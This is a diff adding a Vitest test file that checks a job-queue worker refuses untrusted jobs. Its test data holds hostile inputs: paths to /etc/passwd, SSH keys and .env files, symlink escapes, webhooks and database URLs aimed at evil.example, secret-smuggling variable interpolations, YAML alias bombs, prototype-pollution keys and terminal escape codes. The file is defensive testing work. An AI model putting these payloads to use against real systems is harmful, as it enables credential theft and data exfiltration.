@@ -1,0 +1,289 @@
+import { once } from 'node:events';
+import { chmodSync, mkdirSync, symlinkSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import type { Readable } from 'node:stream';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { describe, expect, test } from 'vitest';
+import type { RunError } from '../../../src/errors/run-error.ts';
+import { type FleetJob, jobSchema, progressOf } from '../../../src/features/fleet/queue/fleet-job.ts';
+import { type FleetQueue, openQueue } from '../../../src/features/fleet/queue/open-queue.ts';
+import { queueUrlOf } from '../../../src/features/fleet/queue/queue-url.ts';
+import { allow } from '../../../src/features/fleet/worker/allowed.ts';
+import { readWorkerConfig } from '../../../src/features/fleet/worker/worker-config.ts';
+import { startCli } from '../../e2e/cli-process.ts';
+import { mainHere } from '../../support/main-here.ts';
+import { ownFolder, refusal, variable } from './own-folder.ts';
+import { serverKinds } from './queue-servers.ts';
+
+const ENV = { STATE_URL: 'postgres://me:word@127.0.0.1/db', HOOK: 'https://hooks.example/1', PATH: '/bin' };
+
+/** A job that somebody has written into the queue by hand. */
+const jobOf = (file: string, text: string, more: object = {}): FleetJob =>
+  ({
+    ...{ version: 1, submission: '1', submittedAt: '2026-01-01T00:00:00Z', command: 'run', name: 'app' },
+    ...{ file, text: `version: 1\nname: app\n${text}`, options: { strict: false, allowNotifications: true } },
+    ...more,
+  }) as FleetJob;
+
+const SANDBOX = 'target: sandbox\n';
+const USERS = 'sources: { users: { path: users.csv } }\n';
+
+/** What a worker says to a job: the code of its refusal, or `ok`. */
+async function answer(own: ReturnType<typeof ownFolder>, job: FleetJob, config = ''): Promise<string> {
+  const rules = {
+    config: readWorkerConfig(own.write('worker.yaml', `version: 1\nenv: [STATE_URL, HOOK]\n${config}`)),
+    ...{ env: ENV, allowCode: false },
+  };
+  return await allow(job, rules).then(
+    () => 'ok',
+    (error: RunError) => error.code,
+  );
+}
+
+describe('a job that nobody has submitted', () => {
+  test('reads and writes nothing but what is below the folders of the worker, or beside its own pipeline file', async () => {
+    using own = ownFolder();
+    const file = own.pipeline();
+    const sources = (users: string): string => `${SANDBOX}sources: { users: ${users} }\n`;
+    for (const text of [
+      sources('{ path: /etc/passwd }'),
+      sources('{ path: ../secret.csv }'),
+      sources('[{ path: users.csv }, { path: /root/.ssh/id_ed25519 }]'),
+      sources('{ path: [users.csv, "/proc/self/environ"] }'),
+      sources('{ path: "../*/key" }'),
+      sources('{ path: "{..,x}/*/key" }'),
+      sources('{ path: "{/etc,x}/passwd" }'),
+      sources('{ path: "/etc/*" }'),
+      sources('{ path: "../all.zip!/key" }'),
+      sources('{ path: .env }'),
+      sources('{ path: "{.env,users.csv}" }'),
+      sources('{ path: "*/.ssh/*" }'),
+      sources('{ path: ./key }'),
+      sources('{ path: "-" }'),
+      sources('{ path: users.csv, join: { more: { path: /etc/passwd, on: { a: uid } } } }'),
+      sources(
+        '{ path: users.csv, map: { name: { from: name, lookup: { file: /etc/passwd, key: a, value: b } } } }',
+      ),
+      `${SANDBOX}sources: { export: { system: auto, path: /home } }\n`,
+      `${SANDBOX}${USERS}idMap: /etc/passwd\n`,
+      `${SANDBOX}${USERS}state: /tmp\n`,
+      `${SANDBOX}${USERS}state: ../other/.chatferry\n`,
+      `${SANDBOX}${USERS}state: .config\n`,
+      `target: { baseUrl: "https://127.0.0.1:9/v3", caFile: /dev/stdin }\n${USERS}`,
+    ])
+      expect([
+        text,
+        await answer(own, jobOf(file, text), 'keys: [{ file: ./key, host: 127.0.0.1 }]'),
+      ]).toEqual([text, 'FLEET.PATH_REFUSED']);
+    expect(await answer(own, jobOf(file, `${SANDBOX}${USERS}state: states\n`))).toBe('ok');
+    expect(await answer(own, jobOf(file, sources('{ path: "{users,more}*.csv" }')))).toBe('ok');
+  });
+
+  test('has no folder but one with a pipeline file of its name, or one that the worker names', async () => {
+    using own = ownFolder();
+    const text = `${SANDBOX}${USERS}`;
+    mkdirSync(join(own.folder, 'empty'));
+    for (const file of ['/', '/app.yaml', '/etc/app.yaml', '/etc/passwd', join(own.folder, 'empty/app.yaml')])
+      expect([file, await answer(own, jobOf(file, text))]).toEqual([file, 'FLEET.PATH_REFUSED']);
+    const other = jobOf(own.pipeline(), text.replace('', ''), { name: 'other' });
+    expect(await answer(own, other)).toBe('FLEET.JOB_INVALID');
+    const empty = jobOf(join(own.folder, 'empty/app.yaml'), text);
+    expect(await answer(own, empty, 'folders: [.]')).toBe('ok');
+    expect(await answer(own, empty, 'folders: [./other]')).toBe('FLEET.PATH_REFUSED');
+    symlinkSync('/etc', join(own.folder, 'linked'));
+    const linked = jobOf(own.pipeline(), `${SANDBOX}sources: { users: { path: linked/passwd } }\n`);
+    expect(await answer(own, linked)).toBe('FLEET.PATH_REFUSED');
+  });
+
+  test('whose text is in its file on the worker is trusted as on the command line, unless others can change that', async () => {
+    using own = ownFolder();
+    const text = `${SANDBOX}sources: { users: { path: /etc/passwd } }\nnotify: [{ webhook: "https://a.example/" }]\n`;
+    const job = jobOf(own.write('app.yaml', jobOf('', text).text), text);
+    expect(await answer(own, job)).toBe('ok');
+    expect(await answer(own, jobOf(job.file, `${text}\n`))).toBe('FLEET.PATH_REFUSED');
+    chmodSync(own.folder, 0o777);
+    expect(await answer(own, job)).toBe('FLEET.PATH_REFUSED');
+    chmodSync(own.folder, 0o700);
+    chmodSync(job.file, 0o666);
+    expect(await answer(own, job)).toBe('FLEET.PATH_REFUSED');
+  });
+
+  test('sends nothing and keeps nothing where the worker does not say so', async () => {
+    using own = ownFolder();
+    const file = own.pipeline();
+    const asked = (more: string, config = '') =>
+      answer(own, jobOf(file, `${SANDBOX}${USERS}${more}\n`), config);
+    for (const more of [
+      'notify: [{ webhook: "https://evil.example/" }]',
+      'notify: [{ ping: { success: { env: HOOK }, failure: "https://evil.example/" } }]',
+      'notify: [{ webhook: { file: address } }]',
+      `notify: [{ webhook: "${variable('HOOK')}" }]`,
+      'state: postgres://me@evil.example/db',
+      'state: postgres://me@db.example:5433/db',
+      'state: postgres://me@db.example/db?host=evil.example',
+      'state: postgres://me@db.example/db?sslkey=/root/key',
+    ])
+      expect([more, await asked(more, 'hosts: [db.example]')]).toEqual([more, 'FLEET.HOST_REFUSED']);
+    for (const more of [
+      `state: "postgres://evil.example/db?a=${variable('STATE_URL')}"`,
+      `state: "${variable('STATE_URL')}?a=1"`,
+      `notify: [{ webhook: { env: HOOK }, headers: { a: "${variable('STATE_URL')}" } }]`,
+    ])
+      expect([more, await asked(more)]).toEqual([more, 'FLEET.KEY_REFUSED']);
+    for (const more of [
+      'notify: [{ webhook: { env: HOOK } }]',
+      `notify: [{ webhook: "${variable('HOOK')}" }]`,
+      'notify: [{ ping: { start: "https://hooks.example:443/a" } }]',
+      'state: postgres://me@db.example:5432/db',
+      `state: "${variable('STATE_URL')}"`,
+    ])
+      expect([more, await asked(more, 'hosts: [db.example, hooks.example]')]).toEqual([more, 'ok']);
+  });
+
+  test('fetches sources from nowhere but the hosts of the worker', async () => {
+    using own = ownFolder();
+    const file = own.pipeline();
+    const asked = (path: string, hosts: string) =>
+      answer(own, jobOf(file, `${SANDBOX}sources: { users: { path: "${path}" } }\n`), `hosts: [${hosts}]`);
+    const path = 'https://files.example.com/users.csv?key=s3cr3t';
+    for (const hosts of ['', 'example.com', 'files.example.com:8443', '127.0.0.1'])
+      expect(await asked(path, hosts), hosts).toBe('FLEET.HOST_REFUSED');
+    for (const hosts of ['files.example.com', 'FILES.example.com', 'files.example.com:443'])
+      expect(await asked(path, hosts), hosts).toBe('ok');
+    expect(await asked('http://127.0.0.1:8080/users.csv', 'files.example.com')).toBe('FLEET.HOST_REFUSED');
+    expect(await asked('http://127.0.0.1:8080/users.csv', '127.0.0.1')).toBe('ok');
+  });
+
+  test('takes no key by another port, nor by a target that is named in the path of its file', async () => {
+    using own = ownFolder();
+    const target = '{ baseUrl: "https://api.example:8443/v3", apiKey: { file: ./key } }';
+    const file = own.write('app.yaml', jobOf('', `target: ${target}\n${USERS}`).text);
+    const keys = (host: string) => `keys: [{ file: ./key, host: "${host}" }]`;
+    const job = jobOf(file, `target: ${target}\n${USERS}`);
+    for (const host of ['api.example', 'api.example:443'])
+      expect(await answer(own, job, keys(host))).toBe('FLEET.KEY_REFUSED');
+    expect(await answer(own, job, keys('api.example:8443'))).toBe('ok');
+    const usual = jobOf(file, `target: ${target.replace(':8443', '')}\n${USERS}`);
+    for (const host of ['api.example', 'api.example:443'])
+      expect(await answer(own, usual, keys(host))).toBe('ok');
+    const aside = jobOf(`${file} --to evil`, `${SANDBOX}targets: { evil: ${target} }\n${USERS}`);
+    expect(jobSchema.safeParse(aside).success).toBe(false);
+  });
+
+  test.each([
+    [
+      'aliases that multiply',
+      `a: &a [x,x,x,x,x,x,x,x,x]\n${[...'bcdefgh']
+        .map(
+          (name, at) =>
+            `${name}: &${name} [${Array(9)
+              .fill(`*${[...'abcdefg'][at]}`)
+              .join()}]`,
+        )
+        .join('\n')}`,
+    ],
+    ['depth', `sources: ${'['.repeat(100_000)}`],
+    ['depth in blocks', Array.from({ length: 900 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')],
+    ['the key __proto__', `__proto__: { target: sandbox }\n${USERS}`],
+    ['constructor and prototype', `constructor: { prototype: { a: 1 } }\n${USERS}`],
+    ['a tag', `target: !!js/function "function () { return 1 }"\n${USERS}`],
+    ['a merge', `<<: { target: sandbox }\n${USERS}`],
+    ['no map', '- 1'],
+  ])('with %s in its text is refused as a bad file, quickly', async (_, text) => {
+    using own = ownFolder();
+    const startedMs = performance.now();
+    expect(await answer(own, jobOf(own.pipeline(), text))).toMatch(/^CONFIG\./);
+    expect(performance.now() - startedMs).toBeLessThan(5_000);
+    expect(Object.prototype).not.toHaveProperty('a');
+  });
+
+  test('is none of ours with another form', () => {
+    const ours = jobOf('/srv/app.yaml', USERS);
+    expect(jobSchema.safeParse(ours).success).toBe(true);
+    for (const more of [
+      { name: '../../etc' },
+      { name: '\u001b[2J' },
+      { to: '..' },
+      { file: 'app.yaml' },
+      { file: '/srv/\u001b[2Japp.yaml' },
+      { file: `/${'a/'.repeat(5_000)}` },
+      { text: 'x'.repeat(1_000_001) },
+      { command: 'undo' },
+      { options: { ...ours.options, allowCode: true } },
+      { stage: { of: 'a', name: 'x'.repeat(65) } },
+      JSON.parse('{ "__proto__": { "command": "undo" }, "constructor": 1 }'),
+    ])
+      expect(jobSchema.safeParse({ ...ours, ...more }).success, JSON.stringify(more).slice(0, 80)).toBe(
+        false,
+      );
+  });
+});
+
+for (const { name, missing, start } of serverKinds)
+  describe.skipIf(missing)(
+    `a queue in ${name} with what somebody else has written${missing ? ` (${missing})` : ''}`,
+    () => {
+      /** Puts a job there; waits until it has ended, and returns its error. */
+      async function ended(queue: FleetQueue, data: unknown, id: string): Promise<string | undefined> {
+        await queue.pipelines.add('run', data as FleetJob, { jobId: id });
+        for (;;) {
+          const job = await queue.pipelines.getJob(id);
+          if (job?.finishedOn) return progressOf(job.progress).last?.code ?? job.failedReason;
+          await sleep(50);
+        }
+      }
+
+      test('a worker fails it, and goes on; what others see of it is harmless', async () => {
+        await using server = await start();
+        using own = ownFolder();
+        const env = { CHATFERRY_QUEUE: await server.queue() };
+        own.write('secret.csv', 'uid,name\nsecret,word\n');
+        const file = own.pipeline();
+        mkdirSync(join(own.folder, 'deep'));
+        symlinkSync(own.folder, join(own.folder, 'deep', 'up'));
+        own.write('deep/app.yaml', 'version: 1\nname: app\n');
+        const worker = startCli(['fleet', 'work', '--json'], env);
+        await once(worker.child.stdout as Readable, 'data');
+        await using open = await openQueue(queueUrlOf(undefined, env));
+        expect(await ended(open, null, 'null')).toBe('FLEET.JOB_INVALID');
+        expect(await ended(open, { name: ['\u001b[2J'], stage: 7 }, 'odd')).toBe('FLEET.JOB_INVALID');
+        const deep: unknown = JSON.parse(`${'[['.repeat(2_000)}1${']]'.repeat(2_000)}`);
+        expect(await ended(open, { ...jobOf(file, USERS), text: deep }, 'deep')).toBe('FLEET.JOB_INVALID');
+        expect(await ended(open, jobOf('/etc/app.yaml', `${SANDBOX}${USERS}`), 'etc')).toBe(
+          'FLEET.PATH_REFUSED',
+        );
+        // A glob is only known by what it finds: a link that leads out is followed by no job.
+        const globbed = jobOf(
+          join(dirname(file), 'deep/app.yaml'),
+          `${SANDBOX}sources: { users: { path: "*/secret.csv" } }\n`,
+        );
+        expect(await ended(open, globbed, 'globbed')).toMatch(/^(?:FLEET\.PATH_REFUSED|SOURCE\.MISSING)$/);
+        expect(await ended(open, jobOf(file, `${SANDBOX}sources: ${'['.repeat(50_000)}`), 'yaml')).toMatch(
+          /^CONFIG/,
+        );
+        expect(await ended(open, jobOf(file, `${SANDBOX}${USERS}# changed\n`), 'good')).toBeUndefined();
+
+        // With what is none of ours in it, no command touches the queue.
+        expect(refusal(await mainHere(['fleet', 'status'], env))).toEqual([2, 'FLEET.FOREIGN_QUEUE']);
+        for (const id of ['null', 'odd', 'deep']) await open.pipelines.remove(id);
+        const job = await open.pipelines.getJob('etc');
+        for (const progress of [
+          { last: { code: 'A\u001b[2J', message: 7 } },
+          { last: { at: 'never', counts: null }, rows: { done: 'x', entity: '\u001b[2J' } },
+          { retry: [], begunMs: 'x', __proto__: 1 },
+          'text',
+          [1],
+        ]) {
+          await job?.updateProgress(progress as object);
+          const shown = await mainHere(['fleet', 'status'], env);
+          expect([shown.code, shown.err]).toEqual([0, '']);
+          expect(shown.out).not.toContain('\u001b');
+          expect(shown.out).toMatch(/^app +done/m);
+        }
+        worker.child.kill('SIGTERM');
+        expect((await worker.ended).code).toBe(0);
+        await open.schedules.add('night', { ...jobOf(file, USERS), schedule: { at: 'x', zone: 'y' } });
+        expect(refusal(await mainHere(['fleet', 'status'], env))).toEqual([0, undefined]);
+      });
+    },
+  );
